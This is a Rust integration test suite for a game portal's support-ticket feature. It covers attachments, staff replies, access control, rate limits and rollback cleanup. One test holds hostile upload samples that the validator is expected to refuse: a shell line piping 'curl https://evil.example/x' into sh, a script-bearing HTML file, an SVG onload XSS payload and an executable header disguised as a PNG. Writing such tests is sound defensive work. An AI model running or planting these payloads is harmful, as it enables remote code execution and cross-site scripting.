//! The support centre through the real gateway and identity: a player opens a ticket about a
//! transaction of their history with an image, support replies (the player is mailed), the
//! player answers; another player sees none of it; and an attachment is judged by its bytes.

use kid_testing::portal::{
    Portal, client, database, fund, get, get_json, mail_titled, registered, seed_staff, staff, staff_send,
    start, status_and_json, xsrf_token,
};
use reqwest::{
    Client, Method, StatusCode, header,
    multipart::{Form, Part},
};
use serde_json::{Value, json};

/// A 1×1 PNG.
pub(super) const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00,
    0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4, 0x89, 0x00,
    0x00, 0x00, 0x0D, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0xF0, 0x1F, 0x00, 0x05,
    0x00, 0x01, 0xFF, 0x89, 0x99, 0x3D, 0x1D, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42,
    0x60, 0x82,
];

pub(super) fn image(name: &str, mime: &str, bytes: &[u8]) -> Part {
    Part::bytes(bytes.to_vec())
        .file_name(name.to_owned())
        .mime_str(mime)
        .expect("mime")
}

pub(super) async fn post_form(http: &Client, portal: &Portal, path: &str, form: Form) -> (StatusCode, Value) {
    let token = xsrf_token(http, &portal.base).await;
    let response = http
        .post(format!("{}/api{path}", portal.base))
        .header("X-XSRF-TOKEN", token)
        .multipart(form)
        .send()
        .await
        .expect("form");
    status_and_json(response).await
}

pub(super) fn ticket_form(transaction: Option<&str>, attachment: Option<Part>) -> Form {
    let mut form = Form::new()
        .text("category", "topup_missing")
        .text("subject", "Chuyển khoản chưa nhận được KP")
        .text("body", "Tôi chuyển 50.000đ lúc 9 giờ sáng nay mà chưa thấy KP.");
    if let Some(transaction) = transaction {
        form = form.text("transactionId", transaction.to_owned());
    }
    if let Some(attachment) = attachment {
        form = form.part("attachment", attachment);
    }
    form
}

async fn ticket_rows(portal: &Portal) -> i64 {
    sqlx::query_scalar("select count(*) from support_ticket")
        .fetch_one(&database(portal, "identity").await)
        .await
        .expect("count")
}

pub(super) fn attachment_files(portal: &Portal) -> usize {
    std::fs::read_dir(&portal.settings.identity.attachment_dir).map_or(0, |dir| dir.count())
}

#[tokio::test]
async fn a_player_opens_a_ticket_support_replies_and_the_player_is_mailed() {
    let portal = start(|_| {}).await;
    seed_staff(&portal).await;
    let (player, user_id) = registered(&portal, "canhotro").await;
    fund(&portal, user_id, 20_000).await;
    let (_, history) = get_json(&player, &portal, "/transactions").await;
    let transaction = history["items"][0]["id"]
        .as_str()
        .expect("transaction")
        .to_owned();

    let (status, opened) = post_form(
        &player,
        &portal,
        "/support/tickets",
        ticket_form(Some(&transaction), Some(image("bien-lai.png", "image/png", PNG))),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{opened}");
    assert_eq!(opened["ticket"]["status"], "open");
    assert_eq!(opened["ticket"]["transactionId"], transaction.as_str());
    let id = opened["ticket"]["id"].as_str().expect("id").to_owned();
    let attachment = opened["messages"][0]["attachmentId"]
        .as_str()
        .expect("attachment")
        .to_owned();
    let served = get(
        &player,
        &portal,
        &format!("/api/support/attachments/{attachment}"),
    )
    .await;
    assert_eq!(served.status(), StatusCode::OK);
    assert_eq!(served.headers()[header::CONTENT_TYPE], "image/png");
    assert_eq!(served.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(served.bytes().await.expect("bytes").as_ref(), PNG);
    assert_eq!(attachment_files(&portal), 1, "the image is a file, not a row");

    // Support sees it, a viewer cannot reply, support replies and the player is mailed.
    let viewer = staff(&portal, "staff-viewer").await;
    let (_, waiting) = get_json(&viewer, &portal, "/staff/tickets?status=open").await;
    assert_eq!(waiting[0]["id"], id.as_str());
    assert_eq!(waiting[0]["username"], "canhotro");
    let (_, page) = get_json(&viewer, &portal, &format!("/staff/players/{user_id}")).await;
    assert_eq!(
        page["tickets"][0]["id"],
        id.as_str(),
        "the player's page lists it"
    );
    let reply = format!("/staff/tickets/{id}/reply");
    let body = json!({ "body": "Chúng tôi đã ghi có 50.000 KP cho bạn." });
    assert_eq!(
        staff_send(&viewer, &portal, Method::POST, &reply, &body)
            .await
            .status(),
        StatusCode::FORBIDDEN
    );
    let support = staff(&portal, "staff-support").await;
    let image_for_staff = get(&support, &portal, &format!("/api/staff/attachments/{attachment}")).await;
    assert_eq!(image_for_staff.status(), StatusCode::OK);
    let (status, replied) =
        status_and_json(staff_send(&support, &portal, Method::POST, &reply, &body).await).await;
    assert_eq!(status, StatusCode::OK, "{replied}");
    assert_eq!(replied["ticket"]["status"], "answered");
    let mail = mail_titled(
        &portal,
        "canhotro@example.com",
        "Bộ phận hỗ trợ Kid đã trả lời yêu cầu của bạn",
    )
    .await;
    assert!(
        mail["text"].as_str().expect("text").contains("ghi có 50.000 KP"),
        "{mail}"
    );

    // The player reads the reply and answers: the ticket waits for support again.
    let (_, read) = get_json(&player, &portal, &format!("/support/tickets/{id}")).await;
    assert_eq!(read["messages"][1]["author"], "support");
    // Support's own view names who replied.
    let (_, seen) = get_json(&support, &portal, &format!("/staff/tickets/{id}")).await;
    assert_eq!(seen["messages"][1]["staffUsername"], "staff-support");
    let (status, answered) = post_form(
        &player,
        &portal,
        &format!("/support/tickets/{id}/messages"),
        Form::new().text("body", "Đã nhận, cảm ơn!"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{answered}");
    assert_eq!(answered["ticket"]["status"], "open");
    let (_, mine) = get_json(&player, &portal, "/support/tickets").await;
    assert_eq!(mine.as_array().expect("tickets").len(), 1);

    // Another player finds none of it; a transaction of someone else's is refused.
    let (stranger, _) = registered(&portal, "nguoila").await;
    assert_eq!(
        get_json(&stranger, &portal, &format!("/support/tickets/{id}"))
            .await
            .0,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        get(
            &stranger,
            &portal,
            &format!("/api/support/attachments/{attachment}")
        )
        .await
        .status(),
        StatusCode::NOT_FOUND
    );
    let (_, theirs) = get_json(&stranger, &portal, "/support/tickets").await;
    assert_eq!(theirs, json!([]));
    let (status, refused) = post_form(
        &stranger,
        &portal,
        "/support/tickets",
        ticket_form(Some(&transaction), None),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert_eq!(
        refused["errors"]["transactionId"][0],
        "Giao dịch đã chọn không có trong lịch sử của bạn"
    );
    // Anonymous: 401.
    assert_eq!(
        get_json(&client(), &portal, "/support/tickets").await.0,
        StatusCode::UNAUTHORIZED
    );
    // The reply is in the audit log.
    let (_, log) = get_json(&support, &portal, &format!("/staff/audit?subject=ticket:{id}")).await;
    assert_eq!(log[0]["action"], "ticket.reply", "{log}");
}

#[tokio::test]
async fn an_attachment_that_is_a_script_renamed_to_png_is_refused() {
    let portal = start(|_| {}).await;
    let (player, _) = registered(&portal, "thutaitep").await;
    let message = "Tệp đính kèm phải là ảnh PNG, JPEG hoặc WebP";
    let disguised = [
        image(
            "anh.png",
            "image/png",
            b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
        ),
        image(
            "anh.png",
            "image/png",
            b"<html><script>fetch('/api/me')</script></html>",
        ),
        image(
            "anh.jpg",
            "image/jpeg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
        image(
            "anh.png",
            "application/octet-stream",
            b"MZ\x90\x00\x03\x00\x00\x00",
        ),
    ];
    for part in disguised {
        let (status, answer) = post_form(
            &player,
            &portal,
            "/support/tickets",
            ticket_form(None, Some(part)),
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
        assert_eq!(answer["errors"]["attachment"][0], message, "{answer}");
    }
    // Over 5 MB, even a real PNG.
    let mut large = PNG.to_vec();
    large.resize(5 * 1024 * 1024 + 1, 0);
    let (status, answer) = post_form(
        &player,
        &portal,
        "/support/tickets",
        ticket_form(None, Some(image("lon.png", "image/png", &large))),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert_eq!(answer["errors"]["attachment"][0], "Ảnh đính kèm tối đa 5 MB");
    // Nothing was kept: no ticket, no file.
    assert_eq!(ticket_rows(&portal).await, 0);
    assert_eq!(attachment_files(&portal), 0);
    // Empty fields: each says so.
    let (status, answer) = post_form(
        &player,
        &portal,
        "/support/tickets",
        Form::new().text("category", "x"),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    for field in ["category", "subject", "body"] {
        assert!(answer["errors"][field][0].is_string(), "{answer}");
    }
}

#[tokio::test]
async fn a_player_reading_supports_replies_learns_no_staff_username() {
    let portal = start(|_| {}).await;
    seed_staff(&portal).await;
    let (player, _) = registered(&portal, "dohoten").await;
    let (status, opened) = post_form(
        &player,
        &portal,
        "/support/tickets",
        Form::new()
            .text("category", "account")
            .text("subject", "Hỏi về tài khoản")
            .text("body", "Ai đang hỗ trợ tôi?"),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{opened}");
    let id = opened["ticket"]["id"].as_str().expect("id").to_owned();
    let support = staff(&portal, "staff-support").await;
    let reply = staff_send(
        &support,
        &portal,
        Method::POST,
        &format!("/staff/tickets/{id}/reply"),
        &json!({ "body": "Bộ phận hỗ trợ đang xử lý." }),
    )
    .await;
    assert_eq!(reply.status(), StatusCode::OK);

    // Every answer a player gets about the ticket: read, answered; none names the member.
    let (_, read) = get_json(&player, &portal, &format!("/support/tickets/{id}")).await;
    let (_, answered) = post_form(
        &player,
        &portal,
        &format!("/support/tickets/{id}/messages"),
        Form::new().text("body", "Cảm ơn."),
    )
    .await;
    for seen in [&read, &answered] {
        assert_eq!(seen["messages"][1]["author"], "support", "{seen}");
        assert!(
            !seen.to_string().contains("staff-support"),
            "a staff username reached the player: {seen}"
        );
    }
}

/// A PNG of exactly `bytes` bytes (its signature, then padding: identity judges by the bytes).
fn png_of(bytes: usize) -> Vec<u8> {
    let mut png = PNG.to_vec();
    png.resize(bytes, 0);
    png
}

#[tokio::test]
async fn one_account_answering_without_end_is_stopped_by_its_hourly_and_daily_allowances() {
    let portal = start(|_| {}).await;
    let (player, _) = registered(&portal, "spamanh").await;
    let five_mb = 5 * 1024 * 1024;
    let with_image = |body: &str| {
        Form::new()
            .text("body", body.to_owned())
            .part("attachment", image("anh.png", "image/png", &png_of(five_mb)))
    };
    // The ticket and three answers carry 20 MB of images: the day's allowance, all of it.
    let (status, opened) = post_form(
        &player,
        &portal,
        "/support/tickets",
        ticket_form(None, Some(image("anh.png", "image/png", &png_of(five_mb)))),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{opened}");
    let answers = format!(
        "/support/tickets/{}/messages",
        opened["ticket"]["id"].as_str().expect("id")
    );
    for n in 0..3 {
        let (status, body) = post_form(&player, &portal, &answers, with_image(&format!("Ảnh {n}"))).await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    assert_eq!(attachment_files(&portal), 4);

    // A fifth image is refused with the player's message and when to try again; nothing kept.
    let token = xsrf_token(&player, &portal.base).await;
    let refused = player
        .post(format!("{}/api{answers}", portal.base))
        .header("X-XSRF-TOKEN", token)
        .multipart(with_image("Ảnh nữa"))
        .send()
        .await
        .expect("answer");
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    let retry_after: u64 = refused.headers()[header::RETRY_AFTER]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("seconds");
    assert!((80_000..=86_400).contains(&retry_after), "{retry_after}");
    let body: Value = refused.json().await.expect("json");
    assert_eq!(
        body["message"],
        "Bạn đã gửi quá nhiều ảnh hôm nay (tối đa 20 MB mỗi ngày); hãy gửi tin nhắn không kèm ảnh hoặc thử lại vào ngày mai"
    );
    assert_eq!(attachment_files(&portal), 4, "no file for a refused answer");

    // Words alone still go, up to 20 messages in the hour; the 21st waits.
    for n in 4..20 {
        let (status, body) = post_form(
            &player,
            &portal,
            &answers,
            Form::new().text("body", format!("Tin {n}")),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "message {n}: {body}");
    }
    let (status, body) = post_form(&player, &portal, &answers, Form::new().text("body", "Tin thứ 21")).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(
        body["message"],
        "Bạn đã gửi quá nhiều tin nhắn hỗ trợ trong một giờ; vui lòng chờ bộ phận hỗ trợ trả lời hoặc thử lại sau"
    );
    let messages: i64 = sqlx::query_scalar("select count(*) from ticket_message")
        .fetch_one(&database(&portal, "identity").await)
        .await
        .expect("count");
    assert_eq!(messages, 20);
}

#[tokio::test]
async fn an_answer_whose_transaction_fails_leaves_no_image_file_behind() {
    let portal = start(|_| {}).await;
    let (player, _) = registered(&portal, "mocoiphu").await;
    let (status, opened) = post_form(&player, &portal, "/support/tickets", ticket_form(None, None)).await;
    assert_eq!(status, StatusCode::CREATED, "{opened}");
    // The database refuses this one message after the image was written (a full disk, a
    // failover: any failure between the file and the commit).
    sqlx::query(
        "alter table ticket_message add constraint refuse_for_test check (body <> 'hỏng giữa chừng')",
    )
    .execute(&database(&portal, "identity").await)
    .await
    .expect("constraint");
    let (status, _) = post_form(
        &player,
        &portal,
        &format!(
            "/support/tickets/{}/messages",
            opened["ticket"]["id"].as_str().expect("id")
        ),
        Form::new()
            .text("body", "hỏng giữa chừng")
            .part("attachment", image("anh.png", "image/png", PNG)),
    )
    .await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_eq!(
        attachment_files(&portal),
        0,
        "the image's file went with its transaction"
    );
    let rows: i64 = sqlx::query_scalar("select count(*) from ticket_attachment")
        .fetch_one(&database(&portal, "identity").await)
        .await
        .expect("count");
    assert_eq!(rows, 0);
}
